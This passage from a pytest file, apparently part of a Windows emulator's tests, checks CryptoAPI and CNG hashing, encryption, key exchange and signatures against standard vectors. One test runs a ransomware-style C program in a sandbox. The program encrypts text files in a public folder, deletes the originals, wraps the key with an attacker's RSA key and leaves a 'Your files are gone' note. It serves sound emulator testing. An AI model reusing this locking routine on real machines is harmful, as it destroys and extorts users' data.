"""Cryptography: what programs encrypt, hash and derive is what Windows makes of it, byte for byte.

The expected bytes are those of the standards' own test vectors, or were made by OpenSSL.
"""

from __future__ import annotations

import base64
import struct
from pathlib import Path

import pytest
from Crypto.Cipher import AES, ARC4, PKCS1_v1_5
from Crypto.Hash import SHA256
from Crypto.PublicKey import RSA
from Crypto.Signature import pkcs1_15
from Crypto.Util.Padding import unpad

from tests.emulating import Bench
from tests.guest_programs import build, marks, said

BITS = pytest.mark.parametrize("bits", [32, 64])

SHA512_OF_ABC = (
    "ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a"
    "2192992a274fc1a836ba3c23a3feebbd454d4423643ce80e2a9ac94fa54ca49f"
)
GCM_OF_CASE_4 = (
    "42831ec2217774244b7221b784d0d49ce3aa212f2c02a4e035c17e2329aca12e"
    "21d514b25466931c7d8f6a5aac84aa051ba30b396a0aac973d58e091"
)
SHOW = r"""
#include <stdio.h>
#include <string.h>
#include <wincrypt.h>
static void show(const char *what, const BYTE *data, DWORD size)
{
    char line[200], *place = line + sprintf(line, "%s-", what);
    for (DWORD i = 0; i < size && i < 64; i++)
        place += sprintf(place, "%02x", data[i]);
    mark(line);
}
"""


@BITS
def test_hashes_and_random_bytes(tmp_path: Path, bits: int) -> None:
    """Each hash of "abc", an HMAC (RFC 2202, case 2), a provider that lacks SHA-256; bytes that differ."""
    source = (
        SHOW
        + r"""
    static void hash(HCRYPTPROV provider, ALG_ID algorithm)
    {
        HCRYPTHASH hash;
        BYTE value[64];
        DWORD size = 4, length;
        if (!CryptCreateHash(provider, algorithm, 0, 0, &hash)) {
            mark(GetLastError() == NTE_BAD_ALGID ? "unknown" : "wrong");
            return;
        }
        CryptHashData(hash, (BYTE *)"a", 1, 0);
        CryptHashData(hash, (BYTE *)"bc", 2, 0);
        CryptGetHashParam(hash, HP_HASHSIZE, (BYTE *)&length, &size, 0);
        size = 3;
        if (CryptGetHashParam(hash, HP_HASHVAL, value, &size, 0) || GetLastError() != ERROR_MORE_DATA)
            mark("wrong");
        CryptGetHashParam(hash, HP_HASHVAL, value, &size, 0);
        show(size == length ? "hash" : "wrong", value, size);
        if (CryptHashData(hash, (BYTE *)"d", 1, 0) || GetLastError() != NTE_BAD_HASH_STATE)
            mark("wrong");
        CryptDestroyHash(hash);
    }
    int main(void)
    {
        HCRYPTPROV provider, old;
        HCRYPTHASH hmac;
        HCRYPTKEY key;
        BYTE one[16] = {0}, two[16] = {0};
        struct { BLOBHEADER head; DWORD size; BYTE key[4]; } blob =
            {{PLAINTEXTKEYBLOB, CUR_BLOB_VERSION, 0, CALG_RC2}, 4, "Jefe"};
        HMAC_INFO info = {CALG_MD5};
        DWORD size = 16;
        CryptAcquireContextW(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
        hash(provider, CALG_MD5);
        hash(provider, CALG_SHA1);
        hash(provider, CALG_SHA_256);
        hash(provider, CALG_SHA_512);
        CryptAcquireContextA(&old, NULL, MS_ENHANCED_PROV_A, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT);
        hash(old, CALG_SHA_256);
        hash(old, CALG_MD4);
        blob.head.aiKeyAlg = CALG_RC4;
        if (!CryptImportKey(provider, (BYTE *)&blob, sizeof blob, 0, CRYPT_IPSEC_HMAC_KEY, &key))
            mark("no-key");
        CryptCreateHash(provider, CALG_HMAC, key, 0, &hmac);
        CryptSetHashParam(hmac, HP_HMAC_INFO, (BYTE *)&info, 0);
        CryptHashData(hmac, (BYTE *)"what do ya want for nothing?", 28, 0);
        CryptGetHashParam(hmac, HP_HASHVAL, one, &size, 0);
        show("hmac", one, size);
        CryptGenRandom(provider, 16, one);
        CryptGenRandom(provider, 16, two);
        mark(memcmp(one, two, 16) && memcmp(one, "AAAAAAAA", 8) ? "random" : "wrong");
        mark(CryptReleaseContext(provider, 0) && !CryptReleaseContext(provider, 0) ? "closed" : "wrong");
        mark(CryptAcquireContextA(&old, "mine", NULL, 1, 0) || GetLastError() != NTE_BAD_KEYSET
             ? "wrong" : "none");
        mark(CryptAcquireContextA(&old, "mine", NULL, 1, CRYPT_NEWKEYSET) ? "made" : "wrong");
        mark(CryptAcquireContextA(&old, "mine", NULL, 1, 0) ? "there" : "wrong");
        return 0;
    }
    """
    )
    assert said(tmp_path, source, bits) == [
        "hash-900150983cd24fb0d6963f7d28e17f72",
        "hash-a9993e364706816aba3e25717850c26c9cd0d89d",
        "hash-ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        f"hash-{SHA512_OF_ABC}",
        "unknown",
        "hash-a448017aaf21d8525fc10ae87aa6729d",
        "hmac-750c783e6ab0b503eaa86e310a5db738",
        *("random", "closed", "none", "made", "there"),
    ]


@BITS
def test_session_keys(tmp_path: Path, bits: int) -> None:
    """Imported keys encrypt as the standards say, derived ones as Windows derives them; parts are a whole.

    AES: SP 800-38A, F.2.5. The derived ones: "CryptDeriveKey function", calculated with OpenSSL.
    """
    source = (
        SHOW
        + r"""
    static HCRYPTPROV provider;
    static HCRYPTKEY given(ALG_ID algorithm, const void *bytes, DWORD size)
    {
        BYTE blob[64] = {PLAINTEXTKEYBLOB, CUR_BLOB_VERSION};
        HCRYPTKEY key = 0;
        *(ALG_ID *)(blob + 4) = algorithm;
        *(DWORD *)(blob + 8) = size;
        memcpy(blob + 12, bytes, size);
        CryptImportKey(provider, blob, 12 + size, 0, CRYPT_EXPORTABLE, &key);
        return key;
    }
    static HCRYPTKEY derived(ALG_ID hashed, ALG_ID algorithm, DWORD flags)
    {
        HCRYPTHASH hash;
        HCRYPTKEY key = 0;
        CryptCreateHash(provider, hashed, 0, 0, &hash);
        CryptHashData(hash, (BYTE *)"password", 8, 0);
        CryptDeriveKey(provider, algorithm, hash, flags, &key);
        CryptDestroyHash(hash);
        return key;
    }
    static void encrypt(const char *what, HCRYPTKEY key)
    {
        BYTE data[64] = "The quick brown fox";
        DWORD size = 19;
        if (!CryptEncrypt(key, 0, TRUE, 0, data, &size, sizeof data)) mark("failed");
        show(what, data, size);
        CryptDecrypt(key, 0, TRUE, 0, data, &size);
        if (size != 19 || memcmp(data, "The quick brown fox", 19)) mark("not-back");
    }
    int main(void)
    {
        static const BYTE long_key[] =
            "\x60\x3d\xeb\x10\x15\xca\x71\xbe\x2b\x73\xae\xf0\x85\x7d\x77\x81"
            "\x1f\x35\x2c\x07\x3b\x61\x08\xd7\x2d\x98\x10\xa3\x09\x14\xdf\xf4";
        BYTE data[96] = "\x6b\xc1\xbe\xe2\x2e\x40\x9f\x96\xe9\x3d\x7e\x11\x73\x93\x17\x2a"
                        "\xae\x2d\x8a\x57\x1e\x03\xac\x9c\x9e\xb7\x6f\xac\x45\xaf\x8e\x51";
        BYTE iv[16], blob[64];
        DWORD size, mode = CRYPT_MODE_ECB;
        HCRYPTKEY key;
        for (int i = 0; i < 16; i++)
            iv[i] = i;
        CryptAcquireContextA(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
        key = given(CALG_AES_256, long_key, 32);
        CryptSetKeyParam(key, KP_IV, iv, 0);
        size = 16;
        CryptEncrypt(key, 0, FALSE, 0, data, &size, 16);
        size = 16;
        mark(CryptEncrypt(key, 0, TRUE, 0, data + 16, &size, 16) || size != 32 ? "wrong" : "too-small");
        size = 16;
        CryptEncrypt(key, 0, TRUE, 0, data + 16, &size, 80);
        show("cbc", data, 32);
        size += 16;
        CryptDecrypt(key, 0, TRUE, 0, data, &size);
        show(size == 32 ? "back" : "wrong", data, 32);
        size = 17;
        mark(CryptDecrypt(key, 0, TRUE, 0, data, &size) || GetLastError() != NTE_BAD_DATA
             ? "wrong" : "bad-data");
        CryptSetKeyParam(key, KP_MODE, (BYTE *)&mode, 0);
        size = 16;
        CryptEncrypt(key, 0, FALSE, 0, data, &size, 16);
        show("ecb", data, 16);
        size = sizeof blob;
        CryptExportKey(key, 0, PLAINTEXTKEYBLOB, 0, blob, &size);
        mark(size == 44 && !memcmp(blob + 12, long_key, 32) ? "exported" : "wrong");
        encrypt("rc4", given(CALG_RC4, "Key", 3));
        encrypt("3des", given(CALG_3DES, long_key, 24));
        encrypt("des", given(CALG_DES, long_key, 8));
        encrypt("md5-rc4", derived(CALG_MD5, CALG_RC4, 0));
        encrypt("md5-rc4-40", derived(CALG_MD5, CALG_RC4, 40 << 16));
        encrypt("sha1-aes128", derived(CALG_SHA1, CALG_AES_128, 0));
        encrypt("md5-aes256", derived(CALG_MD5, CALG_AES_256, CRYPT_EXPORTABLE));
        encrypt("sha256-aes256", derived(CALG_SHA_256, CALG_AES_256, 0));
        mark(derived(CALG_MD5, CALG_RC4, 5000 << 16) ? "wrong" : "no-such-key");
        size = sizeof blob;
        mark(CryptExportKey(derived(CALG_MD5, CALG_RC4, 0), 0, PLAINTEXTKEYBLOB, 0, blob, &size)
             ? "wrong" : "not-exportable");
        return 0;
    }
    """
    )
    assert said(tmp_path, source, bits) == [
        "too-small",
        "cbc-f58c4c04d6e5f1ba779eabfb5f7bfbd69cfc4e967edb808d679f777bc6702c7d",
        "back-6bc1bee22e409f96e93d7e117393172aae2d8a571e03ac9c9eb76fac45af8e51",
        "bad-data",
        "ecb-f3eed1bdb5d2a03c064b5a7e3db181f8",
        "exported",
        "rc4-bff712a1c641a311cc39285a08c12cb56b3234",
        "3des-64b1cc80f2c9448a17319006042417cad6608d61f8748365",
        "des-e7c741a7149e3369a055ab3e077a99a764cc7b130facf4d4",
        "md5-rc4-bc904e1d042e0c821a18c51390f11671b96978",
        "md5-rc4-40-e236ae6c5f2e0712f3e35c3ea8d7bc7143c304",
        "sha1-aes128-e69f3e06cbb78ce8d4ecce4394fbc7b39c370d667a7b749f825f3877b737c978",
        "md5-aes256-1381856048ba6515f25215c0307080d925cceb28fac6b1bf6f3005a05b05b2ce",
        "sha256-aes256-1528ad1442a94377d0219e1825080219dc06379d8e74029f2157ee689a657a0d",
        *("no-such-key", "not-exportable"),
    ]


@BITS
def test_pairs_of_keys(tmp_path: Path, bits: int) -> None:
    """A session key goes to the owner of a public key and back; what was made stays in its container."""
    source = (
        SHOW
        + r"""
    int main(void)
    {
        HCRYPTPROV provider, again;
        HCRYPTKEY pair, public_key, session, back;
        BYTE blob[2048], wrapped[512], plain[512], other[512];
        DWORD size = sizeof blob, length = sizeof wrapped, bits, four = 4;
        CryptAcquireContextA(&provider, "mine", NULL, PROV_RSA_FULL, CRYPT_NEWKEYSET);
        mark(CryptGetUserKey(provider, AT_KEYEXCHANGE, &pair) || GetLastError() != NTE_NO_KEY
             ? "wrong" : "none");
        CryptGenKey(provider, AT_KEYEXCHANGE, 1024 << 16 | CRYPT_EXPORTABLE, &pair);
        CryptGetKeyParam(pair, KP_KEYLEN, (BYTE *)&bits, &four, 0);
        CryptExportKey(pair, 0, PUBLICKEYBLOB, 0, blob, &size);
        RSAPUBKEY *numbers = (RSAPUBKEY *)(blob + 8);
        mark(bits == 1024 && size == 148 && numbers->magic == 0x31415352 && numbers->bitlen == 1024
             && numbers->pubexp == 65537 && (blob[147] & 0x80) ? "public" : "wrong");
        CryptImportKey(provider, blob, size, 0, 0, &public_key);
        CryptGenKey(provider, CALG_RC4, CRYPT_EXPORTABLE, &session);
        CryptExportKey(session, public_key, SIMPLEBLOB, 0, NULL, &length);
        mark(length == 140 ? "140" : "wrong");
        CryptExportKey(session, public_key, SIMPLEBLOB, 0, wrapped, &length);
        size = sizeof blob;
        mark(CryptExportKey(pair, 0, PRIVATEKEYBLOB, 0, blob, &size) && size == 596 ? "private" : "wrong");
        CryptAcquireContextA(&again, NULL, NULL, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT);
        CryptImportKey(again, blob, size, 0, 0, &pair);
        mark(CryptImportKey(again, wrapped, length, pair, 0, &back) ? "unwrapped" : "wrong");
        for (int i = 0; i < 40; i++)
            plain[i] = other[i] = i;
        length = 40;
        CryptEncrypt(session, 0, TRUE, 0, plain, &length, 40);
        CryptDecrypt(back, 0, TRUE, 0, plain, &length);
        mark(length == 40 && !memcmp(plain, other, 40) ? "same" : "wrong");
        CryptEncrypt(public_key, 0, TRUE, 0, plain, &length, sizeof plain);
        mark(length == 128 && memcmp(plain, other, 40) ? "encrypted" : "wrong");
        CryptDecrypt(pair, 0, TRUE, 0, plain, &length);
        mark(length == 40 && !memcmp(plain, other, 40) ? "decrypted" : "wrong");
        length = 200;
        mark(CryptEncrypt(public_key, 0, TRUE, 0, plain, &length, sizeof plain) ? "wrong" : "too-long");
        mark(CryptDecrypt(public_key, 0, TRUE, 0, plain, &length) ? "wrong" : "no-private");
        CryptReleaseContext(provider, 0);
        CryptAcquireContextA(&again, "mine", NULL, PROV_RSA_FULL, 0);
        mark(CryptGetUserKey(again, AT_KEYEXCHANGE, &pair) ? "kept" : "lost");
        return 0;
    }
    """
    )
    assert said(tmp_path, source, bits) == [
        *("none", "public", "140", "private", "unwrapped", "same", "encrypted", "decrypted"),
        *("too-long", "no-private", "kept"),
    ]


@BITS
def test_keys_in_pem_and_signatures(tmp_path: Path, bits: int) -> None:
    """A public key in PEM encrypts, a private one in DER signs; what they make, others can read."""
    owner = RSA.generate(2048)
    pem = owner.public_key().export_key("PEM").decode().replace("\n", "\\r\\n")
    source = (
        SHOW
        + r"""
    static const BYTE private_key[] = {PRIVATE};
    int main(void)
    {
        HCRYPTPROV provider;
        HCRYPTKEY key, signing;
        HCRYPTHASH hash;
        CERT_PUBLIC_KEY_INFO *info;
        BYTE der[512], blob[2048], data[256] = "secret", signature[256];
        DWORD size = sizeof der, length = 6;
        CryptAcquireContextA(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
        CryptStringToBinaryA("PEM\r\n", 0, CRYPT_STRING_BASE64HEADER, der, &size, NULL, NULL);
        mark(CryptDecodeObjectEx(X509_ASN_ENCODING, X509_PUBLIC_KEY_INFO, der, size, CRYPT_DECODE_ALLOC_FLAG,
                                 NULL, &info, &size)
             && !strcmp(info->Algorithm.pszObjId, szOID_RSA_RSA) && info->PublicKey.cbData == 270
             && CryptImportPublicKeyInfo(provider, X509_ASN_ENCODING, info, &key) ? "imported" : "wrong");
        mark(LocalFree(info) ? "wrong" : "freed");
        CryptEncrypt(key, 0, TRUE, 0, data, &length, sizeof data);
        for (int part = 0; part < 4; part++)
            show("a", data + 64 * part, 64);
        size = sizeof blob;
        mark(!CryptDecodeObject(X509_ASN_ENCODING, X509_PUBLIC_KEY_INFO, data, 256, 0, blob, &size)
             && CryptDecodeObject(X509_ASN_ENCODING, PKCS_RSA_PRIVATE_KEY, private_key, sizeof private_key, 0,
                                  blob, &size)
             && CryptImportKey(provider, blob, size, 0, 0, &signing) ? "private" : "wrong");
        CryptCreateHash(provider, CALG_SHA_256, 0, 0, &hash);
        CryptHashData(hash, (BYTE *)"abc", 3, 0);
        mark(!CryptSignHashA(hash, AT_SIGNATURE, NULL, 0, NULL, &size) && GetLastError() == NTE_NO_KEY
             && CryptSignHashA(hash, AT_KEYEXCHANGE, NULL, 0, NULL, &size) && size == 256
             && CryptSignHashA(hash, AT_KEYEXCHANGE, NULL, 0, signature, &size) ? "signed" : "wrong");
        for (int part = 0; part < 4; part++)
            show("b", signature + 64 * part, 64);
        mark(CryptVerifySignatureA(hash, signature, 256, key, NULL, 0) ? "verified" : "wrong");
        signature[5] ^= 1;
        mark(!CryptVerifySignatureA(hash, signature, 256, key, NULL, 0) && GetLastError() == NTE_BAD_SIGNATURE
             ? "forged" : "wrong");
        return 0;
    }
    """
    )
    numbers = ",".join(map(str, owner.export_key("DER")))
    source = source.replace("PRIVATE}", numbers + "}").replace("PEM", pem, 1)
    seen = said(tmp_path, source, bits, "-lcrypt32")
    shown = {
        what: b"".join(bytes.fromhex(mark[2:]) for mark in seen if mark.startswith(f"{what}-"))
        for what in "ab"
    }
    assert [mark for mark in seen if mark[1] != "-"] == [
        *("imported", "freed", "private", "signed", "verified", "forged")
    ]
    assert PKCS1_v1_5.new(owner).decrypt(shown["a"][::-1], b"") == b"secret"
    pkcs1_15.new(owner).verify(SHA256.new(b"abc"), shown["b"][::-1])


LOCKER = r"""
#define FOLDER "C:\\Users\\Public\\Documents\\"
static const BYTE owner[] = {OWNER};
static void put(const char *name, const char *text, int count)
{
    FILE *file = fopen(name, "wb");
    while (count--)
        fputs(text, file);
    fclose(file);
}
static void lock(HCRYPTKEY key, const char *name)
{
    BYTE buffer[1024 + 16];
    char from[MAX_PATH], to[MAX_PATH];
    DWORD size = 0, done;
    BOOL last;
    sprintf(from, FOLDER "%s", name);
    sprintf(to, FOLDER "%s.locked", name);
    HANDLE in = CreateFileA(from, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    HANDLE out = CreateFileA(to, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    do {
        ReadFile(in, buffer, 1024, &size, NULL);
        last = size < 1024;
        if (!CryptEncrypt(key, 0, last, 0, buffer, &size, sizeof buffer)) mark("failed");
        WriteFile(out, buffer, size, &done, NULL);
    } while (!last);
    CloseHandle(in);
    CloseHandle(out);
    DeleteFileA(from);
}
static void tell(const char *what, const char *name)
{
    BYTE buffer[32];
    DWORD size;
    HANDLE file = CreateFileA(name, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    while (ReadFile(file, buffer, 32, &size, NULL) && size)
        show(what, buffer, size);
    CloseHandle(file);
}
int main(void)
{
    HCRYPTPROV provider;
    HCRYPTKEY key, owner_key;
    BYTE wrapped[512];
    DWORD size = sizeof wrapped, done;
    WIN32_FIND_DATAA found;
    put(FOLDER "letter.txt", "Dear Sir or Madam\r\n", 100);
    put(FOLDER "empty.txt", "", 0);
    CryptAcquireContextA(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
    CryptImportKey(provider, owner, sizeof owner, 0, 0, &owner_key);
    CryptGenKey(provider, ALGORITHM, CRYPT_EXPORTABLE, &key);
    HANDLE search = FindFirstFileA(FOLDER "*.txt", &found);
    do
        lock(key, found.cFileName);
    while (FindNextFileA(search, &found));
    FindClose(search);
    CryptExportKey(key, owner_key, SIMPLEBLOB, 0, wrapped, &size);
    HANDLE out = CreateFileA(FOLDER "key.bin", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    WriteFile(out, wrapped, size, &done, NULL);
    CloseHandle(out);
    put(FOLDER "READ_ME.html", "Your files are gone.", 1);
    tell("key", FOLDER "key.bin");
    tell("letter", FOLDER "letter.txt.locked");
    tell("empty", FOLDER "empty.txt.locked");
    return 0;
}
"""


@BITS
@pytest.mark.parametrize("algorithm", ["CALG_AES_256", "CALG_RC4"])
def test_a_program_that_locks_files(tmp_path: Path, bits: int, algorithm: str) -> None:
    """The files that it leaves can be read with its owner's private key, and with nothing else."""
    owner = RSA.generate(2048)
    modulus = owner.n.to_bytes(256, "little")
    blob = struct.pack("<BBHI4sII", 6, 2, 0, 0xA400, b"RSA1", 2048, owner.e) + modulus
    source = SHOW + LOCKER.replace("OWNER", ",".join(map(str, blob))).replace("ALGORITHM", algorithm)
    run = Bench(tmp_path).detonate(build(tmp_path, source, bits))
    assert run.outcome.reason is None
    files: dict[str, bytes] = {}
    for mark in marks(run):
        name, _, data = mark.partition("-")
        files[name] = files.get(name, b"") + bytes.fromhex(data)
    key = PKCS1_v1_5.new(owner).decrypt(files["key"][12:][::-1], b"")
    letter = b"Dear Sir or Madam\r\n" * 100
    if algorithm == "CALG_RC4":
        assert ARC4.new(key).decrypt(files["letter"]) == letter
        assert not files.get("empty")
    else:
        for name, text in {"letter": letter, "empty": b""}.items():
            assert unpad(AES.new(key, AES.MODE_CBC, bytes(16)).decrypt(files[name]), 16) == text
    touched = [line["FileName"].rpartition("\\")[2] for line in run.lines("filetracer", "NtWriteFile")]
    assert {"letter.txt.locked", "key.bin", "READ_ME.html"} <= set(touched)
    deleted = {
        line["FileName"].rpartition("\\")[2] for line in run.lines("filetracer", "NtSetInformationFile")
    }
    assert deleted == {"letter.txt", "empty.txt"}
    calls = [line["Method"] for line in run.lines("apimon")]
    assert {"CryptAcquireContextA", "CryptImportKey", "CryptGenKey", "CryptExportKey"} <= set(calls)
    assert calls.count("CryptEncrypt") == 3


@BITS
def test_cng(tmp_path: Path, bits: int) -> None:
    """AES in CBC (SP 800-38A, F.2.1), GCM (its test case 4), PBKDF2 (RFC 6070, 2), HMAC (RFC 4231, 2)."""
    source = (
        SHOW
        + r"""
    #include <bcrypt.h>
    static BYTE *bytes(const char *hex, BYTE *out)
    {
        unsigned value;
        for (int i = 0; sscanf(hex + 2 * i, "%2x", &value) == 1; i++)
            out[i] = value;
        return out;
    }
    int main(void)
    {
        BCRYPT_ALG_HANDLE aes, sha, hmac;
        BCRYPT_KEY_HANDLE key;
        BCRYPT_HASH_HANDLE hash;
        BYTE secret[32], iv[16], data[64], more[32], out[96], tag[16], object[1024];
        ULONG size, value;
        WCHAR mode[32];
        mark(BCryptOpenAlgorithmProvider(&aes, L"ROT13", NULL, 0) == 0xC0000225 ? "unknown" : "wrong");
        BCryptOpenAlgorithmProvider(&aes, BCRYPT_AES_ALGORITHM, NULL, 0);
        BCryptGetProperty(aes, BCRYPT_BLOCK_LENGTH, (BYTE *)&value, 4, &size, 0);
        mark(value == 16 && size == 4 ? "block" : "wrong");
        mark(BCryptGetProperty(aes, BCRYPT_CHAINING_MODE, (BYTE *)mode, 4, &size, 0) == 0xC0000023
             && size == 32 ? "too-small" : "wrong");
        BCryptGetProperty(aes, BCRYPT_OBJECT_LENGTH, (BYTE *)&value, 4, &size, 0);
        mark(BCryptGenerateSymmetricKey(aes, &key, object, value, secret, 15, 0) ? "bad-key" : "wrong");
        bytes("2b7e151628aed2a6abf7158809cf4f3c", secret);
        BCryptGenerateSymmetricKey(aes, &key, object, value, secret, 16, 0);
        bytes("000102030405060708090a0b0c0d0e0f", iv);
        bytes("6bc1bee22e409f96e93d7e117393172aae2d8a571e03ac9c9eb76fac45af8e51", data);
        BCryptEncrypt(key, data, 32, NULL, iv, 16, NULL, 0, &size, BCRYPT_BLOCK_PADDING);
        mark(size == 48 ? "48" : "wrong");
        BCryptEncrypt(key, data, 16, NULL, iv, 16, out, 96, &size, 0);
        BCryptEncrypt(key, data + 16, 16, NULL, iv, 16, out + 16, 80, &size, BCRYPT_BLOCK_PADDING);
        show("cbc", out, 32);
        bytes("000102030405060708090a0b0c0d0e0f", iv);
        BCryptDecrypt(key, out, 48, NULL, iv, 16, out, 96, &size, BCRYPT_BLOCK_PADDING);
        mark(size == 32 && !memcmp(out, data, 32) ? "back" : "wrong");
        mark(BCryptDecrypt(key, out, 15, NULL, iv, 16, out, 96, &size, 0) == 0xC0000206 ? "odd" : "wrong");
        BCryptExportKey(key, NULL, BCRYPT_KEY_DATA_BLOB, out, 96, &size, 0);
        mark(size == 28 && *(ULONG *)out == BCRYPT_KEY_DATA_BLOB_MAGIC && !memcmp(out + 12, secret, 16)
             ? "exported" : "wrong");
        BCryptDestroyKey(key);
        BCryptSetProperty(aes, BCRYPT_CHAINING_MODE, (BYTE *)BCRYPT_CHAIN_MODE_GCM, 32, 0);
        bytes("feffe9928665731c6d6a8f9467308308", secret);
        BCryptGenerateSymmetricKey(aes, &key, NULL, 0, secret, 16, 0);
        BCRYPT_AUTHENTICATED_CIPHER_MODE_INFO info;
        BCRYPT_INIT_AUTH_MODE_INFO(info);
        info.pbNonce = bytes("cafebabefacedbaddecaf888", iv);
        info.cbNonce = 12;
        info.pbAuthData = bytes("feedfacedeadbeeffeedfacedeadbeefabaddad2", more);
        info.cbAuthData = 20;
        info.pbTag = tag;
        info.cbTag = 16;
        bytes("d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a72"
              "1c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b39", data);
        BCryptEncrypt(key, data, 60, &info, NULL, 0, out, 60, &size, 0);
        show("gcm", out, size);
        show("tag", tag, 16);
        mark(!BCryptDecrypt(key, out, 60, &info, NULL, 0, out, 60, &size, 0) && !memcmp(out, data, 60)
             ? "verified" : "wrong");
        mark(BCryptDecrypt(key, out, 60, &info, NULL, 0, out, 60, &size, 0) == 0xC000A002
             ? "refused" : "wrong");
        BCryptOpenAlgorithmProvider(&sha, BCRYPT_SHA256_ALGORITHM, NULL, 0);
        BCryptCreateHash(sha, &hash, NULL, 0, NULL, 0, 0);
        BCryptHashData(hash, (BYTE *)"abc", 3, 0);
        mark(BCryptFinishHash(hash, out, 20, 0) == 0xC000000D ? "size" : "wrong");
        BCryptFinishHash(hash, out, 32, 0);
        show("sha256", out, 32);
        mark(BCryptDestroyHash(hash) || !BCryptDestroyHash(hash) ? "wrong" : "destroyed");
        BYTE *text = (BYTE *)"what do ya want for nothing?";
        BCryptHash((BCRYPT_ALG_HANDLE)0xb1, (BYTE *)"Jefe", 4, text, 28, out, 32);
        show("hmac", out, 32);
        BCryptOpenAlgorithmProvider(&hmac, BCRYPT_SHA1_ALGORITHM, NULL, BCRYPT_ALG_HANDLE_HMAC_FLAG);
        BCryptDeriveKeyPBKDF2(hmac, (BYTE *)"password", 8, (BYTE *)"salt", 4, 2, out, 20, 0);
        show("pbkdf2", out, 20);
        BCryptImportKeyPair((BCRYPT_ALG_HANDLE)0xe1, NULL, BCRYPT_RSAPUBLIC_BLOB, &key, (BYTE *)"RSA3", 4, 0)
            ? mark("no-pair") : mark("wrong");
        BCryptCloseAlgorithmProvider(aes, 0);
        BCryptGenRandom(NULL, more, 8, BCRYPT_USE_SYSTEM_PREFERRED_RNG);
        mark(memcmp(more, "\xfe\xed\xfa\xce", 4) ? "random" : "wrong");
        return 0;
    }
    """
    )
    assert said(tmp_path, source, bits, "-lbcrypt") == [
        *("unknown", "block", "too-small", "bad-key", "48"),
        "cbc-7649abac8119b246cee98e9b12e9197d5086cb9b507219ee95db113a917678b2",
        *("back", "odd", "exported"),
        f"gcm-{GCM_OF_CASE_4}",
        "tag-5bc94fbc3221a5db94fae95ae7121a47",
        *("verified", "refused", "size"),
        "sha256-ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        "destroyed",
        "hmac-5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843",
        "pbkdf2-ea6c014dc72d6f8ccd1ed92ace1d41f0d8de8957",
        *("no-pair", "random"),
    ]


@BITS
def test_a_pair_of_cng(tmp_path: Path, bits: int) -> None:
    """What one imports of the other's public key encrypts for it, padded as PKCS #1 or OAEP say."""
    source = r"""
    #include <bcrypt.h>
    #include <string.h>
    int main(void)
    {
        BCRYPT_ALG_HANDLE rsa;
        BCRYPT_KEY_HANDLE pair, other;
        BYTE blob[1024], data[256];
        ULONG size, length;
        BCRYPT_OAEP_PADDING_INFO info = {BCRYPT_SHA256_ALGORITHM};
        BCryptOpenAlgorithmProvider(&rsa, BCRYPT_RSA_ALGORITHM, NULL, 0);
        BCryptGenerateKeyPair(rsa, &pair, 1024, 0);
        BCryptFinalizeKeyPair(pair, 0);
        BCryptExportKey(pair, NULL, BCRYPT_RSAPUBLIC_BLOB, blob, sizeof blob, &size, 0);
        mark(size == 24 + 3 + 128 ? "public" : "wrong");
        BCryptImportKeyPair(rsa, NULL, BCRYPT_RSAPUBLIC_BLOB, &other, blob, size, 0);
        BCryptEncrypt(other, (BYTE *)"secret", 6, NULL, NULL, 0, data, 256, &length, BCRYPT_PAD_PKCS1);
        BCryptDecrypt(pair, data, length, NULL, NULL, 0, data, 256, &size, BCRYPT_PAD_PKCS1);
        mark(length == 128 && size == 6 && !memcmp(data, "secret", 6) ? "pkcs1" : "wrong");
        BCryptEncrypt(other, (BYTE *)"secret", 6, &info, NULL, 0, data, 256, &length, BCRYPT_PAD_OAEP);
        BCryptDecrypt(pair, data, length, &info, NULL, 0, data, 256, &size, BCRYPT_PAD_OAEP);
        mark(length == 128 && size == 6 && !memcmp(data, "secret", 6) ? "oaep" : "wrong");
        mark(BCryptDecrypt(other, data, 128, NULL, NULL, 0, data, 256, &size, BCRYPT_PAD_PKCS1)
             ? "no-private" : "wrong");
        return 0;
    }
    """
    assert said(tmp_path, source, bits, "-lbcrypt") == ["public", "pkcs1", "oaep", "no-private"]


@BITS
def test_texts_of_bytes(tmp_path: Path, bits: int) -> None:
    """Each form of text that crypt32 knows, there and back, in both widths; what is no such text fails."""
    source = (
        SHOW
        + r"""
    static void both(const char *what, DWORD flags, const BYTE *data, DWORD size)
    {
        char text[512], name[300], *end = name + sprintf(name, "%s-", what);
        WCHAR wide[512];
        BYTE back[128];
        DWORD length = 0, skip = 9, kind = 9, wide_length = 512;
        CryptBinaryToStringA(data, size, flags, NULL, &length);
        DWORD needed = length--;
        if (CryptBinaryToStringA(data, size, flags, text, &length) || GetLastError() != ERROR_MORE_DATA)
            mark("fits");
        length = needed;
        CryptBinaryToStringA(data, size, flags, text, &length);
        if (length != needed - 1 || strlen(text) != length) mark("length");
        CryptBinaryToStringW(data, size, flags, wide, &wide_length);
        for (DWORD i = 0; i <= length; i++)
            if (wide[i] != text[i]) mark("wide");
        for (char *c = text; *c; c++)
            end += sprintf(end, *c == '\r' ? "_r" : *c == '\n' ? "_n" : "%c", *c);
        mark(name);
        length = sizeof back;
        if (!CryptStringToBinaryW(wide, 0, flags & 0xFF, back, &length, &skip, &kind)
            || length != size || memcmp(back, data, size) || skip || kind != (flags & 0xFF))
            mark("not-back");
    }
    int main(void)
    {
        BYTE data[50];
        DWORD size, kind;
        for (int i = 0; i < 50; i++)
            data[i] = i * 5;
        both("base64", CRYPT_STRING_BASE64, data, 50);
        both("plain", CRYPT_STRING_BASE64 | CRYPT_STRING_NOCRLF, data, 10);
